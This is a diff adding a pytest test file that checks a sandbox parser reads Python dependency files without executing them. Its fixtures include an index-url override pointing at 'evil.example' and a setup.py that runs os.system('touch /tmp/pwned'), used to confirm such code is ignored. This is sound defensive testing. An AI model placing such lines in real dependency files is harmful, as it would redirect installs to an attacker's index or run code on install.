@@ -1,0 +1,94 @@
+"""read_dependencies: what each kind of dependency file contributes, parsed, never executed."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from sandbox.depfiles import read_dependencies
+
+
+def write(tree: Path, files: dict[str, str]) -> Path:
+    for rel, text in files.items():
+        path = tree / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return tree
+
+
+def texts(tree: Path) -> list[str]:
+    return [r.text for r in read_dependencies(tree).requirements]
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"main.py": "print(1)\n"}, []),
+        (
+            {
+                "requirements.txt": (
+                    "# comment\nrequests>=2  # inline\n-r requirements/base.txt\n-e .\n./local\n"
+                    "--index-url https://evil.example/simple\nattrs==23.1 --hash=sha256:abc\n"
+                    "numpy; python_version >= '3.9'\n"
+                ),
+                "requirements/base.txt": "click\n-r ../requirements.txt\n",
+            },
+            ["requests>=2", "click", "attrs==23.1", "numpy; python_version >= '3.9'", "click"],
+        ),
+        (
+            {
+                "pyproject.toml": (
+                    '[project]\nname = "My_Pkg"\ndependencies = ["httpx>=0.27", "my-pkg[extra]"]\n'
+                    "[project.optional-dependencies]\n"
+                    'test = ["pytest>=8"]\nDev = ["ruff"]\ndocs = ["sphinx"]\n'
+                    "[dependency-groups]\n"
+                    'tests = ["hypothesis", {include-group = "lint"}]\nlint = ["flake8"]\n'
+                )
+            },
+            ["httpx>=0.27", "pytest>=8", "ruff", "hypothesis"],
+        ),
+        (
+            {
+                "setup.cfg": (
+                    "[metadata]\nname = pkg\n[options]\ninstall_requires =\n    six\n    pyyaml>=6\n"
+                    "[options.extras_require]\ntesting =\n    pytest\nall =\n    numpy\n"
+                )
+            },
+            ["six", "pyyaml>=6", "pytest"],
+        ),
+        (
+            {
+                "setup.py": (
+                    "import os\nfrom setuptools import setup\nos.system('touch /tmp/pwned')\n"
+                    "setup(name='pkg', install_requires=['six', 'pkg'], tests_require=['nose'],\n"
+                    "      extras_require={'dev': ['black'], 'gui': ['pyqt5']},\n"
+                    "      version=open('VERSION').read())\n"
+                )
+            },
+            ["six", "nose", "black"],
+        ),
+        ({"setup.py": "from setuptools import setup\nsetup(install_requires=compute())\n"}, []),
+        ({"pyproject.toml": "this is [ not toml"}, []),
+    ],
+)
+def test_requirements_by_file_kind(tmp_path: Path, files: dict[str, str], expected: list[str]) -> None:
+    assert texts(write(tmp_path, files)) == list(dict.fromkeys(expected))
+
+
+def test_each_requirement_remembers_its_file(tmp_path: Path) -> None:
+    write(tmp_path, {"requirements-dev.txt": "pytest\n", "pyproject.toml": '[project]\ndependencies=["x"]\n'})
+    deps = read_dependencies(tmp_path)
+    assert deps.files == ("requirements-dev.txt", "pyproject.toml")
+    assert {(r.text, r.origin) for r in deps.requirements} == {
+        ("pytest", "requirements-dev.txt"),
+        ("x", "pyproject.toml"),
+    }
+
+
+def test_setup_py_is_never_executed(tmp_path: Path) -> None:
+    flag = tmp_path / "ran"
+    source = f"open({str(flag)!r}, 'w').close()\nfrom setuptools import setup\nsetup()\n"
+    write(tmp_path, {"setup.py": source})
+    read_dependencies(tmp_path)
+    assert not flag.exists()
